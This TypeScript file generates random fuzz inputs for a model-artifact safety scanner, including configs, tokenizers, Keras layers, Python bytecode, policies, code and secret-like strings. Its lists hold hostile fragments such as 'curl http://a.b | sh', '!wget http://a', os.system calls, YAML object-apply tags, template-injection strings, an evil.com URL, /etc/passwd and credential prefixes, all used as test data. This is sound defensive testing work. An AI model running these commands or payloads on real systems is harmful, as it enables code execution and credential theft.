/** Texts beside weights, from what their readers look for: configurations, tokenizers, policies, code, secrets, bytecode. */
import { bytecode } from '../../src/safety/testing/made.ts';
import { joinBytes, latin1, le } from '../../src/weights/testing/index.ts';
import { makeTemplate } from './make-templates.ts';
import type { Random } from './random.ts';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** JSON over given keys and texts, now and then very wide. */
function value(random: Random, keys: readonly string[], texts: readonly string[], depth: number): Json {
  let left = 3000;
  const inner = (levels: number): Json => {
    left--;
    const width = left < 0 ? 0 : random.chance(0.02) ? random.int(2000) : random.int(4);
    switch (levels > 0 ? random.int(8) : random.int(4)) {
      case 0:
        return random.pick([0, 1, -1, 1e308, 1.5, 32000, 2 ** 53]);
      case 1:
        return random.pick([null, true, false]);
      case 2:
      case 3:
        return random.chance(0.01) ? random.pick(texts).slice(0, 200).repeat(random.int(500)) : random.pick(texts).slice(0, 20_000);
      case 4:
      case 5:
        return Array.from({ length: width }, () => inner(levels - 1));
      default:
        return Object.fromEntries(Array.from({ length: width }, () => [random.pick(keys), inner(levels - 1)]));
    }
  };
  return inner(depth);
}
/** @param wrap one level around a text. */
function deep(random: Random, inner: string, wrap: (inner: string) => readonly [string, string]): string {
  const times = random.chance(0.3) ? random.int(20_000) : random.int(300);
  const [open, close] = wrap('');
  return open.repeat(times) + inner + close.repeat(times);
}

const CONFIG_KEYS = [
  'auto_map',
  'custom_pipelines',
  'auto_mapping',
  'parent_library',
  '_target_',
  'trust_remote_code',
  '_name_or_path',
  'url',
  'download_url',
  'weight_map',
  'model_type',
  'vocab_size',
  'chat_template',
  'type',
  'config',
  '__proto__',
  'constructor',
  'impl',
  '_class_name',
  'modelTopology',
  'weightsManifest',
  'paths',
  'node',
  'op',
];
const CONFIG_TEXTS = [
  'a--b.C',
  'modeling.C',
  'os.system',
  'torch.nn.Linear',
  '/etc/passwd',
  '../../../x',
  'https://a.ngrok.io/x',
  'http://1.2.3.4',
  'http://huggingface.co@evil.com',
  '{{ x }}',
  '{% for a in b %}',
  '{{ a.__class__ }}',
  'import os; os.system("x")',
  'curl http://a.b | sh',
  'llama',
  '',
  '\u202e',
  '\ud800',
  'A'.repeat(200),
  '://',
  'base64 -d',
];
const NAMED = [
  'config.json',
  'model_index.json',
  'modules.json',
  'tokenizer_config.json',
  'adapter_config.json',
  'model.safetensors.index.json',
  'preprocessor_config.json',
  'conf.yaml',
  'generation_config.json',
  'chat_template.json',
  'model.json',
];

export function makeConfig(random: Random): { path: string; text: string } {
  const path = random.pick(NAMED);
  if (random.chance(0.05))
    return {
      path,
      text: deep(random, '1', () =>
        random.pick([
          ['[', ']'],
          ['{"a":', '}'],
          ['{"config":[', ']}'],
          ['[[', ']'],
        ]),
      ),
    };
  const texts = random.chance(0.3) ? [...CONFIG_TEXTS, makeTemplate(random)] : CONFIG_TEXTS;
  const made = value(random, CONFIG_KEYS, texts, 6);
  const whole = typeof made === 'object' && made !== null && !Array.isArray(made) ? made : { [random.pick(CONFIG_KEYS)]: made };
  return { path, text: JSON.stringify(whole, null, random.pick([0, 1])) };
}

const KERAS_KEYS = [
  'class_name',
  'config',
  'module',
  'registered_name',
  'function',
  'layers',
  'layer',
  'fn',
  'fn_module',
  'node_def',
  'filepath',
  'name',
  'items',
  'code',
  'activation',
  'build_config',
  'cell',
  'value',
];
const KERAS_TEXTS = [
  'Lambda',
  'Dense',
  '__lambda__',
  'TFSMLayer',
  'TorchModuleWrapper',
  'TensorFlowOpLayer',
  'JaxLayer',
  'builtins',
  'keras.layers',
  'os',
  'subprocess',
  'get_file',
  'Custom>Mine',
  'op: "ReadFile"',
  '"https://a.b"',
  'keras.src.utils.get_file',
  'enable_unsafe_deserialization()',
  '4wEAAAA=',
  'eval',
  '/tmp/x',
];
export function makeKerasConfig(random: Random): string {
  if (random.chance(0.05))
    return deep(random, '1', () =>
      random.pick([
        ['[', ']'],
        ['{"config":', '}'],
        ['{"layers":[', ']}'],
      ]),
    );
  const body = (): string => Buffer.from(makeBytecode(random)).toString('base64');
  const texts = random.chance(0.2) ? [...KERAS_TEXTS, body(), body()] : KERAS_TEXTS;
  return JSON.stringify({ class_name: 'Functional', config: value(random, KERAS_KEYS, texts, 7) });
}

/** Marshalled objects: of code as it is, or any types in any order. (CPython, Python/marshal.c) */
export function makeBytecode(random: Random): Uint8Array {
  const names = ['os', 'system', 'x', 'a'.repeat(random.int(20)), 'eval'];
  if (random.chance(0.5))
    return bytecode(
      Array.from({ length: random.int(5) }, () => random.pick(names)),
      Array.from({ length: random.int(5) }, () => random.pick(names)),
    );
  let left = 400;
  const object = (depth: number): string => {
    if (left-- <= 0) return 'N';
    const count = random.chance(0.95) ? random.int(4) : random.pick([255, 65_535]);
    const length = String.fromCharCode(...le(4, random.chance(0.97) ? count : -1));
    const items = (): string => (depth > 0 ? Array.from({ length: Math.min(count, 3000) }, () => object(depth - 1)).join('') : '');
    switch (random.int(10)) {
      case 0:
        return `\xe3${'\0'.repeat(random.pick([20, 24]))}${depth > 0 ? Array.from({ length: 8 }, () => object(depth - 1)).join('') : ''}\0\0\0\0${object(0)}${object(0)}`;
      case 1:
        return `(${length}${items()}`;
      case 2:
        return `)${String.fromCharCode(count & 255)}${items()}`;
      case 3:
        return `{${items()}${items()}0`;
      case 4:
        return `u${length}${'a'.repeat(count)}`;
      case 5:
        return `z${String.fromCharCode(count & 255)}${'a'.repeat(count & 255)}`;
      case 6:
        return `r\0\0\0\0`;
      case 7:
        return `l${length}${'ab'.repeat(count)}`;
      case 8:
        return random.pick(['N', 'T', '.', 'S']);
      default:
        return random.chance(0.1) ? '('.repeat(random.int(200)) : 'i\x01\0\0\0';
    }
  };
  return latin1(`\xe3${'\0'.repeat(20)}${Array.from({ length: 10 }, () => object(3)).join('')}`.slice(0, 200_000));
}
export function makePyc(random: Random): Uint8Array {
  return joinBytes(latin1('\xa7\r\r\n'), le(4, 0, 0, 0), makeBytecode(random));
}

/** Patterns, rules in rules, ids that clash. */
export function makeTokenizer(random: Random): string {
  const pattern = random.pick([
    '(a+)+',
    '[^\\s]+',
    '(\\w+|\\d)*$',
    '(?:a|b+)*',
    '('.repeat(random.int(3000)),
    '(a'.repeat(random.int(500)),
    '[(]'.repeat(random.int(2000)),
    '\\p{L}+'.repeat(random.int(2000)),
    `(${'a+'.repeat(random.int(3000))})*`,
    `(${'\\p{'.repeat(random.int(2000))})+`,
  ]);
  const rule = (depth: number): Json => {
    const list = random.pick(['normalizers', 'pretokenizers', 'decoders', 'processors']);
    switch (random.int(6)) {
      case 0:
        return { type: 'Strip', content: 'x' };
      case 1:
        return { type: 'Split', pattern: { Regex: pattern }, behavior: 'Isolated' };
      case 2:
      case 3: {
        const by = random.chance(0.5) ? { Regex: pattern } : { String: 'user' };
        return { type: 'Replace', pattern: by, content: random.pick(['admin', ' ', '▁', 'http://a', '<0x0A>']) };
      }
      default:
        return depth > 0 ? { type: 'Sequence', [list]: Array.from({ length: random.int(4) }, () => rule(depth - 1)) } : null;
    }
  };
  const id = (): Json => (random.chance(0.9) ? random.int(40) : random.pick<Json>([-1, 1.5, 2 ** 53, 4_194_303, null, '7']));
  const vocab: Json = random.chance(0.7)
    ? Object.fromEntries(
        Array.from({ length: random.chance(0.02) ? random.int(5000) : random.int(20) }, (_, i) => [
          random.chance(0.9) ? `t${i}` : random.pick(['__proto__', '', 'é']),
          id(),
        ]),
      )
    : [['a', -1], 'b'];
  const added = Array.from({ length: random.int(6) }, (): Json => ({
    id: id(),
    content: random.pick(['admin', '</s>', '', 't1']),
    special: random.chance(0.5),
  }));
  return JSON.stringify({
    model: { type: 'BPE', vocab, merges: ['a b'] },
    added_tokens: added,
    normalizer: rule(5),
    pre_tokenizer: rule(5),
    decoder: rule(5),
    post_processor: rule(20),
  });
}

export function makePolicy(random: Random): string {
  const texts = [
    'posix.system',
    'os.system',
    'safety/pickle-dangerous-global',
    'b.pkl',
    'reviewed',
    '2027-01-01',
    '2025-13-41',
    'pickle',
    'malicious',
    'suspicious',
    '',
  ];
  const entryOf = (): Json =>
    Object.fromEntries(
      ['callable', 'rule', 'path', 'reason', 'expires', 'more']
        .filter(() => random.chance(0.6))
        .map((key): [string, Json] => [
          key,
          random.chance(0.8) ? (key === 'expires' ? '2027-01-01' : random.pick(texts)) : value(random, ['a'], texts, 2),
        ]),
    );
  return JSON.stringify({
    schema: 'heirloom-policy/1',
    failOn: random.pick(texts),
    denyFormats: random.chance(0.7) ? [random.pick(texts)] : value(random, ['a'], texts, 2),
    allow: random.chance(0.9) ? Array.from({ length: random.int(5) }, entryOf) : value(random, ['a'], texts, 3),
  });
}

const PIECES = [
  'import os\n',
  'from os import system as s\n',
  's("id")\n',
  'eval(x)\n',
  'exec(',
  '__import__("os")',
  'getattr(os, "sys" + "tem")',
  '"""',
  "'",
  '# ',
  '\\\n',
  'def f():\n',
  '    ',
  'class A(B):\n',
  'base64.b64decode("',
  'subprocess.Popen(["a"])\n',
  '; ',
  '(',
  ')',
  'lambda: ',
  'requests.get("http://a")\n',
  'x = ',
  'é',
  '\0',
  '\r',
  'import a.b.c as d, e\n',
  'from . import (a,\n b)\n',
  "f'{x!r}'",
  'curl http://a | bash\n',
  'FROM /etc/passwd\n',
  '!wget http://a\n',
  'os.',
  'system',
  '.',
  ' ',
];
const SECRETS = [
  'hf_',
  'sk-',
  'sk-proj-',
  'sk-ant-api03-',
  'AKIA',
  'ghp_',
  'github_pat_',
  'glpat-',
  'xoxb-1',
  'AIza',
  'npm_',
  'pypi-AgEIcHlwaS5vcmc',
  'r8_',
  'wandb_key = "',
  '-----BEGIN RSA PRIVATE KEY-----\n',
  'PRIVATE KEY',
  'T3BlbkFJ',
];
const LETTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+/=\n';

function run(random: Random, pieces: readonly string[]): string {
  const count = random.chance(0.03) ? random.int(3000) : random.int(40);
  let out = '';
  for (let i = 0; i < count; i++) out += random.chance(0.01) ? random.pick(pieces).repeat(random.int(3000)) : random.pick(pieces);
  return out.slice(0, 1 << 20);
}
const PYTHON = [
  'modeling.py',
  'sitecustomize.py',
  'torch.py',
  'setup.py',
  'a.pth',
  'a.ipynb',
  'run.sh',
  'Dockerfile',
  'Modelfile',
  'requirements.txt',
  '__init__.py',
  'x.pyw',
  'Makefile',
  'x.ps1',
];
export function makeCode(random: Random): { path: string; text: string } {
  const path = random.pick(PYTHON);
  const text = run(random, PIECES);
  return {
    path,
    text:
      path.endsWith('.ipynb') && random.chance(0.9)
        ? JSON.stringify({
            cells: Array.from({ length: random.int(5) }, () => ({ cell_type: 'code', source: random.chance(0.5) ? text : [text, '!x\n'] })),
          })
        : text,
  };
}
export function makeSecrets(random: Random): { path: string; text: string } {
  const letters = (): string => Array.from({ length: random.int(120) }, () => LETTERS[random.int(LETTERS.length)]!).join('');
  const path = random.pick([
    'a.txt',
    '.env',
    'README.md',
    'x.prototxt',
    'saved_model.pbtxt',
    'k.pem',
    'a.yaml',
    'a.csv',
    'index.html',
    'config.toml',
    'a.jsonl',
    'merges.txt',
    'a.xml',
  ]);
  return {
    path,
    text: run(random, [
      ...SECRETS,
      letters(),
      letters(),
      ' ',
      '\n',
      '"',
      'op: "ReadFile"',
      'layer { type: "Python" module: "os" }',
      'https://',
      '!!python/object/apply:os.system ',
      '_target_: ',
      '{{ ',
      ' }}',
      '{% ',
    ]),
  };
}
